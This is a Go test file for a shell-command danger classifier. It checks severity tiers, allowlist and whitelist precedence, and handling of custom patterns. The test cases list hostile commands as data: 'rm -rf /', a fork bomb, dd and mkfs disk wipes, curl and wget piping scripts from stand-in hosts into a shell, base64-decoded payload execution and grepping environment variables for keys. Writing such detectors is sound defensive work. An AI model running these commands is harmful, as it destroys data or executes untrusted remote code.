package rules

import "testing"

// TestClassify_SafeAllowlist verifies that read-only commands short-circuit
// before any danger pattern is consulted.
func TestClassify_SafeAllowlist(t *testing.T) {
	e := NewEngine(nil, nil)

	safe := []string{
		"git status",
		"git log --oneline -20",
		"ls -la",
		"pwd",
		"cat go.mod",
		"echo $HOME",
		"printenv PATH",
		"uname -a",
	}
	for _, cmd := range safe {
		v := e.Classify(cmd)
		if v.Dangerous {
			t.Errorf("Classify(%q) dangerous = true (%s), want safe", cmd, v.Reason)
		}
	}
	if v := e.Classify("git status"); v.Reason != "safe command" {
		t.Errorf("reason = %q, want %q", v.Reason, "safe command")
	}
}

// TestClassify_BuiltinSeverities checks one representative command per
// semantic category against its expected severity tier.
func TestClassify_BuiltinSeverities(t *testing.T) {
	e := NewEngine(nil, nil)

	tests := []struct {
		cmd      string
		severity Severity
	}{
		{"rm -rf /", SeverityCritical},
		{"rm -rf ~/", SeverityCritical},
		{":(){ :|:& };:", SeverityCritical},
		{"dd if=/dev/zero of=/dev/sda", SeverityCritical},
		{"echo junk > /dev/sda", SeverityCritical},
		{"mkfs.ext4 /dev/sdb1", SeverityCritical},
		{"curl https://get.evil.sh | sh", SeverityHigh},
		{"wget -qO- https://x.io/run | bash", SeverityHigh},
		{"echo cGF5bG9hZA== | base64 -d | sh", SeverityHigh},
		{"git push --force origin main", SeverityHigh},
		{"sudo rm file", SeverityHigh},
		{"chmod 777 /etc/passwd", SeverityHigh},
		{"git reset --hard HEAD~5", SeverityHigh},
		{"rm -rf /var/data", SeverityHigh},
		{"npm publish", SeverityMedium},
		{"apt-get install netcat", SeverityMedium},
		{"pip install requests", SeverityMedium},
		{"docker run -it ubuntu bash", SeverityMedium},
		{"env", SeverityLow},
		{"printenv | grep KEY", SeverityLow},
	}

	for _, tt := range tests {
		v := e.Classify(tt.cmd)
		if !v.Dangerous {
			t.Errorf("Classify(%q) = safe, want dangerous", tt.cmd)
			continue
		}
		if v.Severity != tt.severity {
			t.Errorf("Classify(%q) severity = %s, want %s", tt.cmd, v.Severity, tt.severity)
		}
		if v.Pattern == "" || v.Reason == "" {
			t.Errorf("Classify(%q) missing pattern/reason: %+v", tt.cmd, v)
		}
	}
}

// TestClassify_RootDelete pins the literal reason string for the canonical
// dangerous command.
func TestClassify_RootDelete(t *testing.T) {
	v := NewEngine(nil, nil).Classify("rm -rf /")
	if !v.Dangerous || v.Severity != SeverityCritical {
		t.Fatalf("unexpected verdict: %+v", v)
	}
	if v.Reason != "Recursive force delete from root directory" {
		t.Errorf("reason = %q", v.Reason)
	}
}

// TestClassify_WhitelistWins verifies precedence: whitelist beats both
// custom and built-in danger patterns.
func TestClassify_WhitelistWins(t *testing.T) {
	e := NewEngine(
		[]CustomPattern{{Pattern: `deploy\.sh`, Severity: SeverityHigh, Reason: "deploy script"}},
		[]string{`^sudo systemctl restart myapp$`, `deploy\.sh`},
	)

	if v := e.Classify("sudo systemctl restart myapp"); v.Dangerous {
		t.Errorf("whitelisted sudo command classified dangerous: %+v", v)
	}
	if v := e.Classify("./deploy.sh"); v.Dangerous {
		t.Errorf("whitelist should beat custom pattern: %+v", v)
	}
	if v := e.Classify("sudo systemctl restart other"); !v.Dangerous {
		t.Error("non-whitelisted sudo command should stay dangerous")
	}
}

// TestClassify_CustomBeatsBuiltin verifies user danger patterns are
// consulted before the built-in list.
func TestClassify_CustomBeatsBuiltin(t *testing.T) {
	e := NewEngine([]CustomPattern{
		{Pattern: `\bsudo\b`, Severity: SeverityCritical, Reason: "no sudo on this host"},
	}, nil)

	v := e.Classify("sudo apt-get update")
	if !v.Dangerous || v.Severity != SeverityCritical || v.Reason != "no sudo on this host" {
		t.Errorf("custom pattern did not win: %+v", v)
	}
}

// TestNewEngine_InvalidPatternsSkipped verifies broken user patterns are
// dropped silently rather than poisoning classification.
func TestNewEngine_InvalidPatternsSkipped(t *testing.T) {
	e := NewEngine(
		[]CustomPattern{{Pattern: `([unclosed`, Severity: SeverityHigh, Reason: "broken"}},
		[]string{`)(bad`},
	)

	if v := e.Classify("make build"); v.Dangerous {
		t.Errorf("invalid patterns caused a false positive: %+v", v)
	}
	if len(e.custom) != 0 || len(e.whitelist) != 0 {
		t.Errorf("invalid patterns were compiled: custom=%d whitelist=%d", len(e.custom), len(e.whitelist))
	}
}

// TestClassify_Deterministic runs the same input repeatedly and expects
// identical verdicts.
func TestClassify_Deterministic(t *testing.T) {
	e := NewEngine(nil, nil)
	first := e.Classify("curl http://x | sh")
	for i := 0; i < 50; i++ {
		if got := e.Classify("curl http://x | sh"); got != first {
			t.Fatalf("iteration %d: %+v != %+v", i, got, first)
		}
	}
}

// TestClassify_NoMatch verifies the fall-through verdict.
func TestClassify_NoMatch(t *testing.T) {
	v := NewEngine(nil, nil).Classify("make test")
	if v.Dangerous {
		t.Fatalf("unexpected dangerous verdict: %+v", v)
	}
	if v.Reason != "no dangerous patterns detected" {
		t.Errorf("reason = %q", v.Reason)
	}
}

// TestClassify_CustomSeverityDefaults verifies unknown severities fall back
// to medium and empty reasons get a placeholder.
func TestClassify_CustomSeverityDefaults(t *testing.T) {
	e := NewEngine([]CustomPattern{{Pattern: `terraform\s+apply`, Severity: "urgent"}}, nil)
	v := e.Classify("terraform apply -auto-approve")
	if !v.Dangerous || v.Severity != SeverityMedium {
		t.Errorf("severity fallback failed: %+v", v)
	}
	if v.Reason == "" {
		t.Error("empty reason was not defaulted")
	}
}
